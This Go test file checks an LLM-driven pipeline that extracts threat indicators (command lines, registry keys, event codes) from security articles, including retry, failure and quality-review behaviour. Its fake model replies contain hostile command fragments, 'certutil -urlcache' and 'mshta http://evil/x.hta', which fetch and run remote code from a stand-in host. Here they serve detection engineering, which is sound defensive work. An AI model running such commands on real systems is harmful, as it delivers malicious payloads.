package pipeline

import (
	"context"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/sigforge/sigforge/internal/config"
	"github.com/sigforge/sigforge/internal/gateway"
	"github.com/sigforge/sigforge/internal/model"
)

func testArticle() *model.Article {
	return &model.Article{ID: "a1", Title: "Campaign", Text: windowsArticle}
}

func TestSubAgentExtractValid(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, _ int) (string, error) {
		return `["certutil -urlcache", "mshta http://evil/x.hta"]`, nil
	})
	agent := NewSubAgent(model.CategoryCommandLine, gw, "model-extract", 3, false)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentValid, res.Status)
	assert.Equal(t, 2, res.Count)
	assert.Equal(t, []string{"certutil -urlcache", "mshta http://evil/x.hta"}, res.Items)
	assert.Equal(t, int64(100), res.Usage.InputTokens)
}

func TestSubAgentRetriesMalformedThenSucceeds(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, n int) (string, error) {
		if n == 1 {
			return `certutil -urlcache`, nil
		}
		// The retry prompt must carry the validator findings.
		assert.Contains(t, req.Prompt, "was rejected")
		return `["certutil -urlcache"]`, nil
	})
	agent := NewSubAgent(model.CategoryCommandLine, gw, "model-extract", 3, false)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentValid, res.Status)
	assert.Equal(t, 1, res.Count)
	assert.Len(t, res.Attempts, 2)
}

func TestSubAgentExhausted(t *testing.T) {
	gw := newFakeGateway(func(gateway.Request, int) (string, error) {
		return `not json at all`, nil
	})
	agent := NewSubAgent(model.CategoryRegistry, gw, "model-extract", 3, false)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentExhausted, res.Status)
	assert.Empty(t, res.Items)
	assert.Zero(t, res.Count)
	assert.Equal(t, 3, gw.totalCalls())
	assert.Equal(t, "not json at all", res.Raw)
}

func TestSubAgentProviderFailure(t *testing.T) {
	gw := newFakeGateway(func(gateway.Request, int) (string, error) {
		return "", errBackend
	})
	agent := NewSubAgent(model.CategoryEventCode, gw, "model-extract", 3, false)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentFailed, res.Status)
	assert.NotEmpty(t, res.Error)
	assert.Equal(t, 1, gw.totalCalls())
}

func TestSubAgentQualityCheckDropsInventedItems(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, _ int) (string, error) {
		if stageOf(req) == "quality" {
			// Reviewer keeps one real item and invents one.
			return `["certutil -urlcache", "made-up-command"]`, nil
		}
		return `["certutil -urlcache", "mshta http://evil/x.hta"]`, nil
	})
	agent := NewSubAgent(model.CategoryCommandLine, gw, "model-extract", 3, true)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentValid, res.Status)
	assert.Equal(t, []string{"certutil -urlcache"}, res.Items)
	assert.Equal(t, 1, res.Count)
	assert.Equal(t, 1, gw.stageCalls("quality"))
}

func TestSubAgentQualityCheckFailureKeepsOriginals(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, _ int) (string, error) {
		if stageOf(req) == "quality" {
			return "", errBackend
		}
		return `["certutil -urlcache"]`, nil
	})
	agent := NewSubAgent(model.CategoryCommandLine, gw, "model-extract", 3, true)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentValid, res.Status)
	assert.Equal(t, []string{"certutil -urlcache"}, res.Items)
}

func TestSubAgentQualityCheckSkippedWhenEmpty(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, _ int) (string, error) {
		return `[]`, nil
	})
	agent := NewSubAgent(model.CategoryCommandLine, gw, "model-extract", 3, true)

	res := agent.Extract(context.Background(), testArticle())
	assert.Equal(t, model.SubAgentValid, res.Status)
	assert.Zero(t, gw.stageCalls("quality"))
}

func extractAllConfig() *config.Config {
	cfg := testConfig()
	return cfg
}

func TestExtractAllDisabledAgentCostsNothing(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, _ int) (string, error) {
		return `[]`, nil
	})
	cfg := extractAllConfig()
	cfg.Pipeline.Agents = map[string]config.AgentConfig{
		"query_language": {Enabled: false},
	}

	results := ExtractAll(context.Background(), gw, cfg, testArticle())
	require.Len(t, results, len(model.CanonicalCategories))

	ql := results[model.CategoryQueryLanguage]
	assert.Equal(t, model.SubAgentDisabled, ql.Status)
	assert.Empty(t, ql.Items)
	assert.Zero(t, ql.Count)
	assert.Zero(t, ql.Usage.InputTokens)

	// Four enabled agents, one completion each.
	assert.Equal(t, 4, gw.totalCalls())
}

func TestExtractAllSequentialMatchesConcurrent(t *testing.T) {
	respond := func(req gateway.Request, _ int) (string, error) {
		if extractCategory(req) == "command_line" {
			return `["certutil -urlcache"]`, nil
		}
		return `[]`, nil
	}

	concurrent := ExtractAll(context.Background(), newFakeGateway(respond), extractAllConfig(), testArticle())

	seqCfg := extractAllConfig()
	seqCfg.Pipeline.SequentialExtract = true
	sequential := ExtractAll(context.Background(), newFakeGateway(respond), seqCfg, testArticle())

	require.Len(t, concurrent, len(model.CanonicalCategories))
	require.Len(t, sequential, len(model.CanonicalCategories))
	for _, cat := range model.CanonicalCategories {
		assert.Equal(t, sequential[cat].Items, concurrent[cat].Items, string(cat))
		assert.Equal(t, sequential[cat].Status, concurrent[cat].Status, string(cat))
	}
}

func TestExtractAllPartialFailureIsolated(t *testing.T) {
	gw := newFakeGateway(func(req gateway.Request, _ int) (string, error) {
		switch extractCategory(req) {
		case "registry":
			return "", errBackend
		case "command_line":
			return `["certutil -urlcache"]`, nil
		default:
			return `[]`, nil
		}
	})

	results := ExtractAll(context.Background(), gw, extractAllConfig(), testArticle())
	assert.Equal(t, model.SubAgentFailed, results[model.CategoryRegistry].Status)
	assert.Equal(t, model.SubAgentValid, results[model.CategoryCommandLine].Status)
	assert.Equal(t, 1, results[model.CategoryCommandLine].Count)
}
